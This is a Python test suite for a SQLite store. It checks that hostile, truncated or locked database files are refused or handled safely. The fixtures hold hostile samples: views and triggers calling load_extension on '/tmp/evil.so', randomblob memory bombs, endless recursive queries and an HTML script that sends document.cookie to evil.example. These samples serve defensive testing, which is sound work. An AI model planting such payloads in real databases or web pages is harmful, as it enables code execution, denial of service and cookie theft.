"""Any file, handled safely: hostile and broken files are refused with a
message naming them and are left byte for byte as they were; a file with a
-wal or a -journal beside it; zero-byte files; HTML kept verbatim; one
writer per file; copies; noticing that the file changed on disk."""

from __future__ import annotations

import os
import random
import shutil
import sqlite3
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from store import backup, edits, queries, records, views
from store.database import (
    QueryCancelled,
    QueryTimeout,
    StoreError,
    close_database,
    lock_path,
    memory_database,
    open_database,
    open_for_session,
    query_guard,
    reading,
)
from store.filewatch import Change, FileIdentity, changed_since, check_same_file
from tests.fixtures.dbstate import dump, integrity_problems, sql_file

ROOT = Path(__file__).resolve().parent.parent
ENDLESS = "WITH RECURSIVE r(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM r) SELECT x AS id FROM r"
QUICK = 5.0  # seconds: every refusal must come well within the open deadline


def files_of(path: Path) -> dict[str, bytes]:
    """The database and the SQLite files beside it that hold data (-wal,
    -journal). The -shm index is scratch memory any reader may create."""
    found = {}
    for suffix in ("", "-wal", "-journal"):
        p = Path(str(path) + suffix)
        if p.exists():
            found[p.name] = p.read_bytes()
    return found


def python(code: str, *args, timeout: float = 60) -> subprocess.CompletedProcess:
    """Run code in another process (flock is per process on some systems)."""
    return subprocess.run(
        [sys.executable, "-c", code, *map(str, args)], cwd=ROOT, capture_output=True, text=True, timeout=timeout
    )


def assert_refused(path: Path, match: str, *, readonly_too: bool = True):
    before = files_of(path)
    for readonly in (False, True) if readonly_too else (False,):
        started = time.monotonic()
        with pytest.raises(StoreError, match=match) as info:
            open_database(path, readonly=readonly)
        assert time.monotonic() - started < QUICK
        assert str(path) in str(info.value)
        assert files_of(path) == before
    assert not lock_path(path).exists()


# ---------------------------------------------------------------- hostile files

OTHER_TABLES = [f"CREATE TABLE {t} (id INTEGER PRIMARY KEY)" for t in (
    "actors", "event_actors", "relationships", "relationship_events", "sources", "event_sources")]  # fmt: skip


@pytest.mark.parametrize(
    "view",
    [
        "CREATE VIEW events AS SELECT load_extension('/tmp/evil.so') AS id",
        "CREATE VIEW events AS SELECT randomblob(1000000000) AS id",
        f"CREATE VIEW events AS {ENDLESS}",
    ],
    ids=["load_extension", "randomblob", "endless-recursion"],
)
def test_a_view_named_events_is_refused_quickly(tmp_path, view):
    path = sql_file(tmp_path / "hostile.db", *OTHER_TABLES, view)
    assert_refused(path, "not a Threadline database .*'events' is a view")


@pytest.mark.parametrize(
    "table, replacement",
    [
        ("meta", f"CREATE VIEW meta AS {ENDLESS}"),
        ("saved_views", "CREATE VIEW saved_views AS SELECT randomblob(1000000000) AS state"),
        ("_sqlite_migrations", f"CREATE VIEW _sqlite_migrations AS {ENDLESS}"),
    ],
)
def test_a_view_in_place_of_any_table_we_read_is_refused(sample_db, table, replacement):
    # Every table Threadline queries must be a table: a view there would run on our queries.
    sql_file(sample_db, f"DROP TABLE {table}", replacement)
    assert_refused(sample_db, f"'{table}' is a view")


def test_a_search_index_that_is_not_one_is_refused(sample_db):
    sql_file(sample_db, "DROP TABLE events_fts", "CREATE TABLE events_fts (rowid, title)")
    assert_refused(sample_db, "'events_fts' is not a full-text index")


def test_a_trigger_calling_a_function_is_refused(sample_db):
    sql_file(sample_db, "CREATE TRIGGER grab AFTER UPDATE ON events BEGIN SELECT load_extension('/tmp/evil.so'); END")
    assert_refused(sample_db, "foreign trigger 'grab'")


def test_checks_that_take_too_long_are_stopped(sample_db):
    conn = sqlite3.connect(sample_db)  # some 8 MB for quick_check to read
    conn.execute("CREATE TABLE padding (b)")
    conn.executemany("INSERT INTO padding VALUES (?)", [(os.urandom(4000),) for _ in range(2000)])
    conn.commit()
    conn.close()
    before = files_of(sample_db)
    started = time.monotonic()
    with pytest.raises(StoreError, match="took too long to check .* it may be hostile or damaged"):
        open_database(sample_db, check_seconds=0.0001)
    assert time.monotonic() - started < QUICK
    assert files_of(sample_db) == before
    db = open_database(sample_db)  # with the normal deadline it is a fine file
    close_database(db)


def test_a_huge_value_is_refused_not_allocated(sample):
    with pytest.raises(sqlite3.DataError):
        sample.execute("SELECT randomblob(1000000000)").fetchone()


# ---------------------------------------------------------------- the query guard


def test_guard_stops_an_endless_query_at_its_deadline(sample):
    guard = query_guard(sample)
    started = time.monotonic()
    with pytest.raises(QueryTimeout):
        with guard.deadline(0.2):
            sample.execute(f"SELECT count(*) FROM ({ENDLESS})").fetchone()
    assert 0.15 < time.monotonic() - started < 2
    assert sample.execute("SELECT count(*) FROM events").fetchone()[0] > 0  # the connection works on


def test_guard_cancel_from_another_thread(sample):
    guard = query_guard(sample)
    threading.Timer(0.2, guard.cancel).start()
    started = time.monotonic()
    with pytest.raises(QueryCancelled):
        with guard.deadline():  # no time limit: only cancel stops it
            sample.execute(f"SELECT count(*) FROM ({ENDLESS})").fetchone()
    assert time.monotonic() - started < 2


def test_guard_is_inert_outside_a_deadline(sample):
    guard = query_guard(sample)
    guard.cancel()  # nothing running: must not stop the next edit
    event_id = sample.execute("SELECT min(id) FROM events").fetchone()[0]
    edits.update_event(sample, event_id, title="Still editable")
    with guard.deadline(5):
        with pytest.raises(QueryTimeout):
            with guard.deadline(0.1):  # the inner, shorter deadline applies
                sample.execute(f"SELECT count(*) FROM ({ENDLESS})").fetchone()
        assert sample.execute("SELECT 1").fetchone() == (1,)  # the outer block runs on... until its own deadline
    assert not guard.active


def test_a_command_stopped_by_the_guard_changes_nothing(sample):
    before = dump(sample)
    guard = query_guard(sample)
    with pytest.raises(QueryTimeout):
        with guard.deadline(0.2), sample.atomic():  # one command: an edit, then a query that never ends
            edits.update_event(sample, sample.execute("SELECT min(id) FROM events").fetchone()[0], title="Never")
            sample.execute(f"SELECT count(*) FROM ({ENDLESS})").fetchone()
    assert dump(sample) == before and not sample.conn.in_transaction


# ---------------------------------------------------------------- broken files


def test_random_bytes_are_refused(tmp_path):
    path = tmp_path / "noise.db"
    path.write_bytes(random.Random(1).randbytes(50_000))
    assert_refused(path, "not a SQLite database")


def test_a_sqlite_header_over_random_bytes_is_refused(tmp_path):
    path = tmp_path / "fake.db"
    path.write_bytes(b"SQLite format 3\x00" + random.Random(2).randbytes(20_000))
    assert_refused(path, "damaged|not a database")


@pytest.mark.parametrize("keep", [0.5, 0.9, 1000])
def test_a_truncated_threadline_file_is_refused(sample_db, keep):
    data = sample_db.read_bytes()
    sample_db.write_bytes(data[: int(len(data) * keep) if keep < 1 else keep])
    assert_refused(sample_db, "damaged|not a database")


def test_a_zero_byte_file_is_refused_read_only_and_made_a_database_when_opened_for_editing(tmp_path):
    path = tmp_path / "empty.db"
    path.touch()
    with pytest.raises(StoreError, match="empty.db: is empty .0 bytes."):
        open_database(path, readonly=True)
    with pytest.raises(StoreError, match="is empty"):
        open_for_session(path, read_only=True)
    assert path.stat().st_size == 0
    db, read_only, message = open_for_session(path)  # opening for editing is the choice to start one
    assert (read_only, message) == (False, None)
    assert queries.story_info(db)["events"] == 0
    close_database(db)
    assert path.stat().st_size > 0


def wal_copy(sample_db: Path, folder: Path, *statements: str, title: str = "Only in the WAL") -> Path:
    """A copy of a WAL-mode file whose newest commits are only in its -wal."""
    db = open_database(sample_db)
    conn = db.conn
    conn.execute("PRAGMA journal_mode = WAL")
    conn.execute("PRAGMA wal_autocheckpoint = 0")
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    edits.update_event(db, conn.execute("SELECT min(id) FROM events").fetchone()[0], title=title)
    for statement in statements:
        conn.execute(statement)
    conn.commit()
    folder.mkdir()
    copy = folder / "sent.db"
    shutil.copy(sample_db, copy)  # as a colleague's sync client would: the file and its -wal
    shutil.copy(str(sample_db) + "-wal", str(copy) + "-wal")
    close_database(db)
    return copy


def test_read_only_open_of_a_file_with_a_wal_changes_neither_file(sample_db, tmp_path):
    path = wal_copy(sample_db, tmp_path / "mail")
    before = files_of(path)
    assert set(before) == {"sent.db", "sent.db-wal"} and before["sent.db-wal"]
    db = open_database(path, readonly=True)
    assert queries.get_event(db, db.execute("SELECT min(id) FROM events").fetchone()[0]).title == "Only in the WAL"
    close_database(db)
    db, read_only, _ = open_for_session(path, read_only=True)
    assert read_only
    close_database(db)
    assert files_of(path) == before


def test_a_trigger_hidden_in_the_wal_is_refused_and_nothing_is_written(sample_db, tmp_path):
    # The hostile part is only in the -wal: checks that ignored it (immutable=1)
    # would pass the file, and a writable check would checkpoint it.
    path = wal_copy(sample_db, tmp_path / "mail", "CREATE TRIGGER grab AFTER INSERT ON actors BEGIN DELETE FROM events; END")
    assert_refused(path, "foreign trigger 'grab'")


def test_a_file_with_a_wal_opens_for_editing(sample_db, tmp_path):
    path = wal_copy(sample_db, tmp_path / "mail")
    db = open_database(path)
    event_id = db.execute("SELECT min(id) FROM events").fetchone()[0]
    assert queries.get_event(db, event_id).title == "Only in the WAL"
    edits.update_event(db, event_id, title="Edited after")
    assert integrity_problems(db) == []
    close_database(db)
    db = open_database(path, readonly=True)
    assert queries.get_event(db, event_id).title == "Edited after"
    close_database(db)


KILL_MID_WRITE = """
import os, sqlite3, sys
conn = sqlite3.connect(sys.argv[1])
conn.execute("PRAGMA cache_size = 1")  # spill pages to the file before the commit
conn.execute("BEGIN")
conn.execute("UPDATE events SET title = 'half-written', summary = hex(randomblob(3000))")
os.kill(os.getpid(), 9)
"""


def test_a_file_left_mid_write_is_rolled_back_only_when_opened_for_editing(sample_db):
    db = open_database(sample_db)
    original = dump(db)
    close_database(db)
    python(KILL_MID_WRITE, sample_db)
    assert Path(str(sample_db) + "-journal").exists()
    before = files_of(sample_db)
    with pytest.raises(StoreError, match="stopped in the middle of writing it"):
        open_database(sample_db, readonly=True)
    assert files_of(sample_db) == before  # read-only: not even the rollback
    db = open_database(sample_db)
    assert dump(db) == original and integrity_problems(db) == []
    close_database(db)
    assert not Path(str(sample_db) + "-journal").exists()


# ---------------------------------------------------------------- text stays text

HTML = '<b onmouseover="alert(1)">bold</b> & <script>fetch("https://evil.example/?"+document.cookie)</script> &amp; <img src=x>'


def test_html_in_every_text_field_is_stored_and_read_back_verbatim(sample_db):
    db = open_database(sample_db)
    text = lambda tag: f"{tag} {HTML}"  # noqa: E731
    actor = records.add_actor(db, text("name"), title=text("title"), country=text("country"), aliases=[text("alias")],
                              notes=text("notes"), colour=text("colour"))  # fmt: skip
    source = records.add_source(db, text("publisher"), text("title"), text("url"), text("date"), text("notes"))
    event = records.add_event(db, text("event"), "May 2025", summary=text("summary"), type=text("type"),
                              location=text("location"), actors=[records.Participation(actor)],
                              sources=[records.Citation(source, text("quote"))])  # fmt: skip
    rel = records.add_relationship(db, actor, actor, text("type"), notes=text("notes"), events=[event])
    edits.update_event(db, event, title=text("edited"))
    edits.update_actor(db, actor, notes=text("edited notes"))
    edits.update_relationship(db, rel, notes=text("edited rel"))
    edits.update_source(db, source, notes=text("edited source"))
    edits.set_citation(db, event, source, text("edited quote"))
    views.save_view(db, text("view"), {"search": HTML})
    close_database(db)

    db = open_database(sample_db, readonly=True)
    detail = queries.event_detail(db, event)
    assert (detail.event.title, detail.event.summary, detail.event.type, detail.event.location) == (
        text("edited"), text("summary"), text("type"), text("location"))  # fmt: skip
    a = queries.get_actor(db, actor)
    assert (a.name, a.title, a.country, a.aliases, a.notes, a.colour) == (
        text("name"), text("title"), text("country"), (text("alias"),), text("edited notes"), text("colour"))  # fmt: skip
    ((s, quote),) = detail.sources
    assert (s.publisher, s.title, s.url, s.date, s.notes, quote) == (
        text("publisher"), text("title"), text("url"), text("date"), text("edited source"), text("edited quote"))  # fmt: skip
    (r,) = [r for r in queries.relationships_in_window(db) if r.id == rel]
    assert (r.type, r.notes) == (text("type"), text("edited rel"))
    assert views.load_view(db, text("view")) == {"search": HTML}
    assert event in queries.search_event_ids(db, "onmouseover script")
    close_database(db)


# ---------------------------------------------------------------- one writer per file

SESSION = """
import sys
from store.database import open_for_session, close_database
db, read_only, message = open_for_session(sys.argv[1])
print(read_only)
print(message)
close_database(db)
"""


def second_instance(path: Path) -> tuple[bool, str]:
    done = python(SESSION, path)
    assert done.returncode == 0, done.stderr
    read_only, message = done.stdout.splitlines()
    return read_only == "True", message


def test_a_second_threadline_gets_the_file_read_only_with_a_message(sample_db):
    db, read_only, message = open_for_session(sample_db)
    assert (read_only, message) == (False, None)
    assert lock_path(sample_db).read_text() == str(os.getpid())
    read_only, message = second_instance(sample_db)
    assert read_only
    assert "open for editing in another Threadline window" in message and f"process {os.getpid()}" in message
    assert "read-only" in message
    close_database(db)
    assert not lock_path(sample_db).exists()
    assert second_instance(sample_db) == (False, "None")


def test_opens_in_one_process_share_the_lock(sample_db):
    first, _, _ = open_for_session(sample_db)
    second, read_only, _ = open_for_session(sample_db)
    assert not read_only
    close_database(first)
    assert second_instance(sample_db)[0]  # still held by the second open
    close_database(second)
    assert not second_instance(sample_db)[0]


def test_a_dropped_database_lets_go_of_the_lock(sample_db):
    open_database(sample_db).conn.close()  # as older callers do, without close_database
    assert not lock_path(sample_db).exists()
    assert not second_instance(sample_db)[0]


def test_the_lock_of_a_killed_threadline_is_free(sample_db):
    code = "import os, sys\nfrom store.database import open_database\ndb = open_database(sys.argv[1])\nos.kill(os.getpid(), 9)"
    python(code, sample_db)
    assert lock_path(sample_db).exists()  # left behind, but nobody holds it
    db, read_only, message = open_for_session(sample_db)
    assert (read_only, message) == (False, None)
    close_database(db)


@pytest.mark.skipif(hasattr(os, "geteuid") and os.geteuid() == 0, reason="root can write any file")
def test_a_read_only_file_opens_read_only_with_a_message(sample_db):
    sample_db.chmod(0o444)
    db, read_only, message = open_for_session(sample_db)
    assert read_only and "read-only on disk" in message
    close_database(db)


# ---------------------------------------------------------------- copies and new files


def test_save_copy_writes_a_consistent_copy_and_clears_stale_side_files(sample_db, tmp_path):
    db = open_database(sample_db)
    edits.update_event(db, db.execute("SELECT min(id) FROM events").fetchone()[0], title="Edited before the copy")
    target = tmp_path / "copy.db"
    target.write_bytes(b"an old file")
    for suffix in ("-journal", "-wal"):  # would be rolled back / replayed into the new copy
        Path(str(target) + suffix).write_bytes(b"stale" * 200)
    steps = []
    backup.save_copy(db, target, progress=lambda remaining, total: steps.append((remaining, total)))
    assert steps and steps[-1][0] == 0
    assert not any(Path(str(target) + s).exists() for s in ("-journal", "-wal"))
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".copy.db")]  # no temporary file left
    copy = open_database(target, readonly=True)
    assert dump(copy, generation=True) == dump(db, generation=True)
    assert integrity_problems(open_database(target)) == []
    close_database(copy)
    with pytest.raises(StoreError, match="is the open file itself"):
        backup.save_copy(db, sample_db)
    other = open_database(target)
    with pytest.raises(StoreError, match="is open in this Threadline"):
        backup.save_copy(db, target)
    close_database(other)
    close_database(db)


def test_save_copy_of_a_wal_file_is_one_self_contained_file(sample_db, tmp_path):
    path = wal_copy(sample_db, tmp_path / "mail")
    db = open_database(path, readonly=True)
    target = tmp_path / "copy.db"
    backup.save_copy(db, target)
    assert not Path(str(target) + "-wal").exists()
    copy = open_database(target, readonly=True)
    assert copy.execute("PRAGMA journal_mode").fetchone()[0] == "delete"
    assert dump(copy, generation=True) == dump(db, generation=True)
    close_database(copy)
    close_database(db)


def test_new_database(tmp_path):
    path = backup.new_database(tmp_path / "new.db")
    db = open_database(path, readonly=True)
    assert queries.story_info(db)["events"] == 0 and "events_fts" in db.table_names()
    close_database(db)
    with pytest.raises(StoreError, match="already exists"):
        backup.new_database(path)
    (tmp_path / "placeholder.db").touch()  # made by a save dialog: nothing to lose
    backup.new_database(tmp_path / "placeholder.db")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["new.db", "placeholder.db"]


def test_created_files_use_the_rollback_journal_and_full_sync(tmp_path):
    db = open_database(tmp_path / "new.db", create=True)
    assert db.execute("PRAGMA journal_mode").fetchone()[0] == "delete"
    assert db.execute("PRAGMA synchronous").fetchone()[0] == 2  # FULL
    close_database(db)


# ---------------------------------------------------------------- changed on disk

WRITE = """
import sys
from store.database import open_database, close_database
from store import edits
db = open_database(sys.argv[1])
edits.update_event(db, db.execute("SELECT min(id) FROM events").fetchone()[0], title="Written elsewhere")
close_database(db)
"""


def test_changed_since_tells_our_writes_from_others(sample_db):
    db = open_database(sample_db)
    identity = FileIdentity.of(sample_db, db)
    assert changed_since(identity, db) is None
    edits.update_event(db, db.execute("SELECT min(id) FROM events").fetchone()[0], title="Our own edit")
    assert changed_since(identity, db) is None  # our commits do not count
    other = open_database(sample_db)
    edits.update_actor(other, other.execute("SELECT min(id) FROM actors").fetchone()[0], notes="another connection")
    close_database(other)
    assert changed_since(identity, db) is Change.WRITTEN
    identity = FileIdentity.of(sample_db, db)  # after a reload
    assert changed_since(identity, db) is None
    assert python(WRITE, sample_db).returncode == 0
    assert changed_since(identity, db) is Change.WRITTEN
    check_same_file(db, sample_db, identity)  # a write is not a replacement
    close_database(db)


def test_a_replaced_or_deleted_file_is_noticed_before_a_write(sample_db, tmp_path):
    db = open_database(sample_db)
    identity = FileIdentity.of(sample_db, db)
    replacement = tmp_path / "other.db"
    shutil.copy(sample_db, replacement)
    os.replace(replacement, sample_db)  # a sync client saving over it
    assert changed_since(identity, db) is Change.REPLACED
    with pytest.raises(StoreError, match="was replaced on disk"):
        check_same_file(db, sample_db, identity)
    sample_db.unlink()
    assert changed_since(identity, db) is Change.MISSING
    with pytest.raises(StoreError, match="moved or deleted"):
        check_same_file(db, sample_db, identity)
    close_database(db)


def test_changed_since_without_a_connection_uses_size_and_time(sample_db):
    identity = FileIdentity.of(sample_db)
    assert changed_since(identity) is None
    db = open_database(sample_db)
    edits.update_event(db, db.execute("SELECT min(id) FROM events").fetchone()[0], title="x" * 5000)
    close_database(db)
    assert changed_since(identity) is Change.WRITTEN


def test_an_installed_sqlite_utils_plugin_does_not_touch_a_users_file(sample_db):
    """A sqlite-utils plugin in the same environment (its prepare_connection
    hook) must not register functions or change settings on Threadline's
    connections: the file is checked as it is, not as a plugin prepares it."""
    from sqlite_utils import hookimpl
    from sqlite_utils.plugins import pm

    class Plugin:
        @staticmethod
        @hookimpl
        def prepare_connection(conn):
            conn.create_function("planted", 0, lambda: "by a plugin")

    plugin = Plugin()
    pm.register(plugin, name="planted-by-test")
    try:
        import sqlite_utils

        assert sqlite_utils.Database(memory=True).execute("select planted()").fetchone() == ("by a plugin",)
        for db in (open_database(sample_db), memory_database()):
            with pytest.raises(sqlite3.OperationalError, match="no such function"):
                db.execute("select planted()")
            close_database(db)
        with reading(sample_db) as db, pytest.raises(sqlite3.OperationalError, match="no such function"):
            db.execute("select planted()")
    finally:
        pm.unregister(plugin)
